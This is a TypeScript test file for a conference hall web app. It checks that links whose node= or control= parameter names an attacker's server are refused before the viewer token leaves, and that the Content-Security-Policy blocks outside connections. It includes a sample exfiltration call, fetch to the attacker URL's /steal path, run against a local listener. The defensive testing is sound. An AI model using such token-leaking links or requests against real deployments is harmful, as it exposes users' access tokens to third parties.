// Attack: a printed hall link whose `node=` or `control=` names the attacker's
// server would send the hall's token there. The pages refuse such a link with
// a sentence before any request leaves, and the Content-Security-Policy lets a
// page connect only to this deployment's origins even if a script tried.
// The attacker's server is a real HTTP listener that counts what reaches it.
import { afterAll, beforeAll, test } from 'vitest';
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import { freePort } from '../../infra/proc.js';
import { DeploymentInfo } from '../../signaling/headers.js';
import { startUi, waitFor, shot, HALL, type UiEnv } from './harness.js';

let env: UiEnv;
let attacker: Server;
let attackerUrl = '';
let mediaUrl = '';
const hits: string[] = [];

beforeAll(async () => {
  mediaUrl = `http://127.0.0.1:${await freePort()}`;
  env = await startUi('foreign', { mediaNodes: { langson: mediaUrl } });
  const port = await freePort();
  attacker = createServer((req, res) => { hits.push(`${req.method} ${req.url}`); res.end('{}'); });
  await new Promise<void>((r) => attacker.listen(port, '127.0.0.1', r));
  attackerUrl = `http://127.0.0.1:${port}`;
});
afterAll(async () => {
  await env?.close();
  await new Promise((r) => attacker?.close(r));
});

test('the control service lists only its deployment\'s origins, in its CSP and its deployment file', async () => {
  const page = await fetch(`${env.url}/hall.html`);
  const csp = page.headers.get('content-security-policy') ?? '';
  const connect = csp.split(';').map((d) => d.trim()).find((d) => d.startsWith('connect-src')) ?? '';
  assert.equal(connect, `connect-src 'self' ${mediaUrl} ${mediaUrl.replace('http', 'ws')}`);
  const info = DeploymentInfo.parse(await (await fetch(`${env.url}/deployment.json`)).json());
  assert.deepEqual(info.origins, [mediaUrl]);
});

test('a hall link naming a foreign media node or control service is refused before the token leaves', async () => {
  const site = 'ls-bacson';
  const token = env.links.sites[site]!.viewer;
  for (const param of ['node', 'control'] as const) {
    const hall = await env.page(HALL);
    await hall.goto(env.link('hall', token, site, { [param]: attackerUrl }));
    await waitFor(`the hall to refuse ${param}=`, async () => (await hall.getAttribute('#status', 'data-phase')) === 'foreign-link', 15_000, 100);
    const text = await hall.locator('#status').innerText();
    assert.match(text, /không thuộc hệ thống hội nghị/);
    assert.match(text, /outside the conference system/);
    if (param === 'node') await shot(hall, 'hall-foreign-link');
    // even a script on the page cannot reach the attacker: the CSP blocks it
    const direct = await hall.evaluate((u) => fetch(`${u}/steal?x=1`).then(() => 'sent', () => 'blocked'), attackerUrl);
    assert.equal(direct, 'blocked');
    await hall.close();
  }
  assert.deepEqual(hits, [], 'nothing may reach the foreign server');
});

test('the studio refuses a foreign node= and keeps its token', async () => {
  const studio = await env.page(HALL);
  await studio.goto(env.link('studio', env.links.organizer, 'tw', { node: attackerUrl }));
  await waitFor('the studio to refuse the link', async () => (await studio.getAttribute('#status', 'data-phase')) === 'foreign-link', 15_000, 100);
  await studio.close();
  assert.deepEqual(hits, []);
});

test('a link naming this deployment\'s media node is used (it is only down here, so the hall keeps trying)', async () => {
  const site = 'ls-bacson';
  const hall = await env.page(HALL);
  await hall.goto(env.link('hall', env.links.sites[site]!.viewer, site, { node: mediaUrl }));
  await waitFor('the hall to try the media node', async () => ['connecting', 'reconnecting'].includes((await hall.getAttribute('#status', 'data-phase')) ?? ''), 15_000, 100);
  await new Promise((r) => setTimeout(r, 1500));
  assert.notEqual(await hall.getAttribute('#status', 'data-phase'), 'foreign-link');
  await hall.close();
});
